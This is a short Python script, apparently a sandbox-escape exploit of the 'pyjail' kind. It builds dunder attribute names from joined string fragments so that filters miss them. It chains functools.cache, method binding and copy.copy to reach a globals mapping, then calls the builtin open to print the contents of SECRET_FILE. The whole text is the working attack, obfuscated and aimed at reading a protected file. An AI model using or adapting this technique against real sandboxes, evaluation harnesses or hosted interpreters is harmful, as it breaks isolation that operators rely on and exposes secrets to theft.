# A remembered function takes its name from an own object, is bound to a library's function, and copied.
import copy
from contextlib import ExitStack
from functools import cache

class Named:
    def __getattr__(self, name):
        if name == "_".join(["", "", "name", "", ""]):
            return "_".join(["", "", "globals", "", ""])
        raise AttributeError(name)

    def __call__(self, *rest):
        return None

print(copy.copy(cache(Named()).__get__(ExitStack.close))["__builtins__"]["open"](SECRET_FILE).read())
